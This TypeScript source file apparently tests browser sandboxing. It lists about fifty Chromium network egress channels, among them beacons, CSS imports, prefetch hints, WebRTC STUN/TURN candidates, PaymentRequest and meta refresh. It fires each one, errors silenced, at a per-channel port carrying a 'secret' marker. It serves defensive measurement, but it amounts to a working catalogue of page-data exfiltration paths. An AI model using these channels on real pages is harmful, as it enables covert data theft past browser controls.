// Every way out of a page that Chromium has, each to a port (and, where a name is resolved, a name) of its own, so that a
// listener can tell which one was taken.

/** Each has the port FIRST_PORT + its place. */
export const EXITS = [
  'fetch',
  'img',
  'beacon',
  'websocket',
  'event-source',
  'xhr',
  'style',
  'font',
  'script',
  'worker',
  'media',
  'track',
  'object',
  'frame',
  'form',
  'ping',
  'location',
  'open',
  'preconnect',
  'dns-prefetch',
  'prefetch',
  'preload',
  'modulepreload',
  'prerender',
  'speculation',
  'webtransport',
  'manifest',
  'icon',
  'stun-udp',
  'turn-udp',
  'turn-tcp',
  'turns-tcp',
  'ice-udp',
  'ice-tcp',
  'ice-name',
  'svg-image',
  'css-import',
  'stun-name',
  'presentation',
  'download',
  'meta-refresh',
  'css-image',
  'audio',
  'embed',
  'shared-worker',
  'import',
  'srcset',
  'fetch-later',
  'attribution',
  'payment',
  'federated',
  'speech',
] as const;
export type Exit = (typeof EXITS)[number];

export const FIRST_PORT = 9101;

interface Where {
  /** An address, for the ports. */
  host: string;
  /** A domain: `NAME.domain` is asked for where a name is enough. */
  domain: string;
  ports: Readonly<Record<Exit, number>>;
}

export function whereAt(host: string, domain: string): Where {
  const ports = Object.fromEntries(EXITS.map((name, place) => [name, FIRST_PORT + place]));
  // oxlint-disable-next-line typescript/no-unsafe-type-assertion -- one for each exit
  return { host, domain, ports: ports as Record<Exit, number> };
}

/** Runs in the page and takes them all; answers when WebRTC has looked for its candidates. */
export async function takeEveryExit({ host, domain, ports }: Where): Promise<void> {
  const at = (exit: keyof typeof ports, scheme = 'http'): string => `${scheme}://${host}:${ports[exit]}/${exit}?secret`;
  const named = (exit: keyof typeof ports, scheme = 'http'): string =>
    `${scheme}://${exit}.${domain}:${ports[exit]}/${exit}`;
  const head = document.head ?? document.documentElement;
  const add = (tag: string, attributes: Record<string, string>, text = ''): HTMLElement => {
    const element = document.createElement(tag);
    for (const [name, value] of Object.entries(attributes)) {
      element.setAttribute(name, value);
    }
    element.textContent = text;
    head.append(element);
    return element;
  };
  const quietly = (act: () => unknown): void => {
    try {
      void Promise.resolve(act()).catch(() => undefined);
    } catch {
      // What is not there, or refused at once, is no exit.
    }
  };
  const call = (name: string, ...args: unknown[]): unknown =>
    (Reflect.get(window, name) as (...all: unknown[]) => unknown)(...args);
  quietly(() => fetch(at('fetch'), { mode: 'no-cors' }));
  quietly(() => {
    new Image().src = at('img');
  });
  quietly(() => {
    new Image().src = `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg"><image href="${at('svg-image')}"/></svg>`;
  });
  quietly(() => navigator.sendBeacon(at('beacon'), 'secret'));
  quietly(() => new WebSocket(at('websocket', 'ws')));
  quietly(() => new EventSource(at('event-source')));
  quietly(() => {
    const request = new XMLHttpRequest();
    request.open('POST', at('xhr'));
    request.send('secret');
  });
  quietly(() => add('link', { rel: 'stylesheet', href: at('style') }));
  quietly(() => add('style', {}, `@import url("${at('css-import')}");`));
  quietly(() => new FontFace('leak', `url(${at('font')})`).load());
  quietly(() => add('script', { src: at('script') }));
  quietly(() => new Worker(URL.createObjectURL(new Blob([`fetch(${JSON.stringify(at('worker'))})`]))));
  quietly(() => add('video', { src: at('media'), preload: 'auto' }));
  quietly(() => {
    const video = document.createElement('video');
    const track = document.createElement('track');
    track.src = at('track');
    track.default = true;
    video.append(track);
    document.body.append(video);
    track.track.mode = 'showing';
  });
  quietly(() => document.body.append(add('object', { data: at('object') })));
  quietly(() => document.body.append(add('iframe', { src: at('frame') })));
  for (const rel of ['preconnect', 'dns-prefetch', 'prefetch', 'preload', 'modulepreload', 'prerender'] as const) {
    quietly(() =>
      add('link', { rel, href: rel === 'dns-prefetch' || rel === 'preconnect' ? named(rel) : at(rel), as: 'image' }),
    );
  }
  quietly(() => add('link', { rel: 'manifest', href: at('manifest') }));
  quietly(() => add('link', { rel: 'icon', href: at('icon') }));
  const rules = { prefetch: [{ source: 'list', urls: [at('speculation')] }] };
  quietly(() => add('script', { type: 'speculationrules' }, JSON.stringify(rules)));
  quietly(() => new WebTransport(at('webtransport', 'https')).ready);
  quietly(() => {
    type Request = new (urls: string[]) => { start(): Promise<unknown> };
    // oxlint-disable-next-line typescript/no-unsafe-type-assertion -- the type library does not know it
    const PresentationRequest = Reflect.get(window, 'PresentationRequest') as Request;
    return new PresentationRequest([at('presentation')]).start();
  });

  quietly(() => {
    document.body.style.background = `url(${at('css-image')})`;
  });
  quietly(() => new Audio(at('audio')).play());
  quietly(() => document.body.append(add('embed', { src: at('embed') })));
  quietly(() => new SharedWorker(at('shared-worker')));
  quietly(() => import(at('import')));
  quietly(() => document.body.append(add('img', { srcset: `${at('srcset')} 1x` })));
  quietly(() => call('fetchLater', at('fetch-later'), { activateAfter: 0 }));
  quietly(() => document.body.append(add('img', { attributionsrc: at('attribution') })));
  quietly(() => {
    const total = { label: 'x', amount: { currency: 'EUR', value: '1' } };
    return new PaymentRequest([{ supportedMethods: at('payment') }], { total }).show();
  });
  quietly(() => {
    const identity = { providers: [{ configURL: at('federated'), clientId: 'secret' }] };
    return navigator.credentials.get({ identity } as CredentialRequestOptions);
  });
  quietly(() => new (Reflect.get(window, 'webkitSpeechRecognition') as new () => { start(): void })().start());

  const candidate = (exit: keyof typeof ports, address: string, tcp = false): RTCIceCandidateInit => ({
    candidate: `candidate:1 1 ${tcp ? 'tcp' : 'udp'} 2122260223 ${address} ${tcp ? ports['ice-tcp'] : ports[exit]} typ host${tcp ? ' tcptype passive' : ''}`,
    sdpMid: '0',
  });
  async function connect(iceServers: RTCIceServer[]): Promise<void> {
    const [here, there] = [new RTCPeerConnection({ iceServers }), new RTCPeerConnection()];
    here.createDataChannel('leak');
    await here.setLocalDescription();
    await there.setRemoteDescription(here.localDescription ?? { type: 'offer' });
    await there.setLocalDescription();
    await here.setRemoteDescription(there.localDescription ?? { type: 'answer' });
    await here.addIceCandidate(candidate('ice-udp', host));
    await here.addIceCandidate(candidate('ice-tcp', host, true));
    await here.addIceCandidate(candidate('ice-name', `ice-name.${domain}`)).catch(() => undefined);
    await new Promise<void>((resolve) => {
      const look = (): void => (here.iceGatheringState === 'complete' ? resolve() : undefined);
      here.addEventListener('icegatheringstatechange', look);
      setTimeout(resolve, 6000);
      look();
    });
  }
  const login = { username: 'secret', credential: 'x' };
  const gathered = Promise.allSettled([
    connect([{ urls: `stun:${host}:${ports['stun-udp']}` }]),
    connect([{ urls: `stun:stun-name.${domain}:${ports['stun-name']}` }]),
    connect([{ urls: `turn:${host}:${ports['turn-udp']}`, ...login }]),
    connect([{ urls: `turn:${host}:${ports['turn-tcp']}?transport=tcp`, ...login }]),
    connect([{ urls: `turns:${host}:${ports['turns-tcp']}?transport=tcp`, ...login }]),
  ]);

  const link = add('a', { href: '#', ping: at('ping') });
  document.body.append(link);
  link.click();
  quietly(() => window.open(at('open')));
  const form = add('form', { method: 'post', action: at('form'), target: '_blank' });
  document.body.append(form);
  quietly(() => (form instanceof HTMLFormElement ? form.submit() : undefined));
  await gathered;
  // Last, because they would take the page away.
  add('a', { href: at('download'), download: 'x' }).click();
  add('meta', { 'http-equiv': 'refresh', content: `0;url=${at('meta-refresh')}` });
  location.href = at('location');
}
